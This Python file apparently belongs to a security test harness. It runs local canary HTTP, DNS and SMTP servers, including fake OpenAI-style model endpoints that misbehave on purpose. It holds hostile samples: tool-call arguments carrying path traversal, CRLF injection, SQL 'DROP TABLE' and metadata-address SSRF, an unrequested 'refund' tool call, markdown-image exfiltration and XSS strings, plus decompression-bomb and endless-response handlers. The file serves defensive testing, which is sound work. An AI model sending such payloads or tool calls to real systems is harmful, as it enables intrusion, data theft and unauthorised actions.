"""Listeners on this machine that notice what reaches them: an HTTP server, a name server's port, a mail server.

What is asked of the HTTP canary under `/open/` is part of an attempt and answered as its name says; whatever else
arrives there, and any datagram at all, is a finding.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import socket
import socketserver
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, cast

OPEN = "/open/"
DRIP_SECONDS = 1.0
BLOCK = b"x" * 65_536


@dataclass(frozen=True, kw_only=True)
class Hit:
    """One request that arrived; `text` is all of it."""

    method: str
    path: str
    headers: dict[str, str]
    body: str

    @property
    def text(self) -> str:
        return "\n".join(
            [self.method, self.path, *(f"{name}: {value}" for name, value in self.headers.items()), self.body]
        )


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    sent = b""

    def do_GET(self) -> None:
        length = self.headers.get("Content-Length") or "0"
        body = self.rfile.read(int(length)) if length.isdigit() else b""
        self.sent = body
        hit = Hit(method=self.command, path=self.path, headers=dict(self.headers), body=body.decode(errors="replace"))
        cast(WebServer, self.server).canary.arrived(hit)
        name = self.path.removeprefix(OPEN).partition("?")[0].partition("/")[0]
        with contextlib.suppress(OSError):  # whoever asked has had enough
            ANSWERS.get(name, plain)(self)
        self.close_connection = True

    do_POST = do_PUT = do_HEAD = do_PATCH = do_DELETE = do_GET  # noqa: N815

    def log_message(self, *_: Any) -> None:
        return


def plain(handler: Handler) -> None:
    send(handler, b'{"ok": true}')


def send(handler: Handler, body: bytes, status: int = 200, **headers: str) -> None:
    handler.send_response(status)
    for name, value in {"Content-Type": "application/json", "Content-Length": str(len(body)), **headers}.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.end_headers()
    handler.wfile.write(body)


def begin(handler: Handler) -> None:
    """An answer without an end."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/plain")
    handler.send_header("Connection", "close")
    handler.end_headers()


def endless(handler: Handler) -> None:
    begin(handler)
    while True:
        handler.wfile.write(BLOCK)


def dripping(handler: Handler) -> None:
    begin(handler)
    stopped = cast(WebServer, handler.server).stopped
    while not stopped.wait(DRIP_SECONDS):
        handler.wfile.write(b"x")


def dense(handler: Handler) -> None:
    send(handler, gzip.compress(bytes(200_000_000)), Content_Encoding="gzip")


def wordy(handler: Handler) -> None:
    handler.send_response(200)
    for number in range(10_000):
        handler.send_header(f"X-{number}", "x" * 100)
    handler.end_headers()


def inwards(handler: Handler) -> None:
    """To where the query says, or back to this very server under the name of another host."""
    target = handler.path.partition("?to=")[2]
    send(handler, b"", 302, Location=target)


def echo(handler: Handler) -> None:
    send(handler, "\n".join(f"{name}: {value}" for name, value in handler.headers.items()).encode())


def think(handler: Handler, decide: Callable[[list[dict[str, Any]]], dict[str, Any]]) -> None:
    """As a language model with the protocol of OpenAI; `decide` gives its message for what was said so far."""
    asked = json.loads(handler.sent)
    message = {"role": "assistant", "content": None, **decide(asked["messages"])}
    finish = "tool_calls" if message.get("tool_calls") else "stop"
    usage = {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13}
    if not asked.get("stream"):
        choice = {"index": 0, "message": message, "finish_reason": finish}
        send(handler, json.dumps({"object": "chat.completion", "choices": [choice], "usage": usage}).encode())
        return
    pieces = [{"index": 0, "delta": message, "finish_reason": None}, {"index": 0, "delta": {}, "finish_reason": finish}]
    chunks = [{"object": "chat.completion.chunk", "choices": [piece]} for piece in pieces]
    chunks.append({"object": "chat.completion.chunk", "choices": [], "usage": usage})
    text = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    send(handler, text.encode(), Content_Type="text/event-stream")


def tool_call(name: str, arguments: dict[str, Any] | str, number: int) -> dict[str, Any]:
    given = arguments if isinstance(arguments, str) else json.dumps(arguments)
    function = {"name": name, "arguments": given}
    return {"tool_calls": [{"id": f"c{number}", "type": "function", "function": function}]}


def looping(handler: Handler) -> None:
    """It never stops calling its tool."""
    think(handler, lambda said: tool_call("look", {"id": "1"}, len(said)))


EVIL_ARGUMENTS: list[dict[str, Any] | str] = [
    {"id": "../../stolen"},
    {"id": "..%2f..%2fstolen"},
    {"id": "1?x=/../../stolen#"},
    {"id": "1\r\nX-Evil: yes"},
    {"id": 7},
    {"id": "'; DROP TABLE runs_run;--"},
    {"id": "1", "url": "http://169.254.169.254/"},
    "not even JSON",
    {"id": "x" * 100_000},
    {},
]


def greedy(handler: Handler) -> None:
    """It calls its tool with each of the evil arguments, and another tool that it was not given, and then reports."""

    def decide(said: list[dict[str, Any]]) -> dict[str, Any]:
        calls = sum(one["role"] == "assistant" for one in said)
        if calls < len(EVIL_ARGUMENTS):
            return tool_call("look", EVIL_ARGUMENTS[calls], calls)
        if calls == len(EVIL_ARGUMENTS):
            return tool_call("refund", {"id": "1"}, calls)
        return {"content": "I am done."}

    think(handler, decide)


def telling(handler: Handler) -> None:
    """It tells all it knows, and a picture that would carry it away."""
    host = cast(WebServer, handler.server).canary.host
    words = (
        f"![x](http://{host}/picture?d=SECRET) <img src=http://{host}/pixel onerror=alert(1)> [y](javascript:alert(1))"
    )
    think(handler, lambda said: {"content": f"{words} {said[-1]['content']}"})


ANSWERS: dict[str, Callable[[Handler], None]] = {
    "looping": looping,
    "greedy": greedy,
    "telling": telling,
    "endless": endless,
    "dripping": dripping,
    "dense": dense,
    "wordy": wordy,
    "inwards": inwards,
    "echo": echo,
}


class WebServer(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, canary: WebCanary) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.canary = canary
        self.stopped = threading.Event()

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A line that the product cut is what was hoped for."""


class WebCanary:
    def __init__(self) -> None:
        self.hits: list[Hit] = []
        self._server = WebServer(self)
        self.host = f"127.0.0.1:{self._server.server_port}"
        _serve(self._server)

    def arrived(self, hit: Hit) -> None:
        self.hits.append(hit)

    def url(self, path: str = "/stolen") -> str:
        return f"http://{self.host}{path}"

    def stolen(self) -> list[str]:
        """What arrived although nothing should have."""
        return [f"{hit.method} {hit.path}" for hit in self.hits if not hit.path.startswith(OPEN)]

    def close(self) -> None:
        self._server.stopped.set()
        self._server.shutdown()
        self._server.server_close()


class NameCanary:
    """Takes datagrams as a name server would; answers none."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        canary = self

        class Taking(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                canary.hits.append(self.request[0])

        self._server = socketserver.UDPServer(("127.0.0.1", 0), Taking)
        self.port = int(self._server.server_address[1])
        _serve(self._server)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Letter:
    sender: str = ""
    to: list[str] = field(default_factory=list)
    text: str = ""


class MailTaking(socketserver.StreamRequestHandler):
    """As much of RFC 5321 as it takes to be given a mail."""

    def handle(self) -> None:
        letter = Letter()
        self._say("220 canary")
        while line := self.rfile.readline().decode(errors="replace").strip():
            word = line[:4].upper()
            if word == "MAIL":
                letter.sender = line
            elif word == "RCPT":
                letter.to.append(line.partition("<")[2].partition(">")[0])
            elif word == "DATA":
                self._say("354 go on")
                letter.text = self._content()
                cast(MailServer, self.server).letters.append(letter)
                letter = Letter()
            elif word == "QUIT":
                self._say("221 bye")
                return
            self._say("250 ok")

    def _content(self) -> str:
        lines = []
        while (line := self.rfile.readline().decode(errors="replace").rstrip("\r\n")) != ".":
            lines.append(line)
        return "\n".join(lines)

    def _say(self, line: str) -> None:
        self.wfile.write(f"{line}\r\n".encode())


class MailServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), MailTaking)
        self.letters: list[Letter] = []

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Whoever hangs up in the middle is no news."""


class MailCanary:
    """The mail server of the product under attack."""

    def __init__(self) -> None:
        self._server = MailServer()
        self.url = f"smtp://127.0.0.1:{self._server.server_address[1]}"
        _serve(self._server)

    @property
    def letters(self) -> list[Letter]:
        return self._server.letters

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def closed_port() -> int:
    """Where nobody listens, as far as anybody can tell."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _serve(server: socketserver.BaseServer) -> None:
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
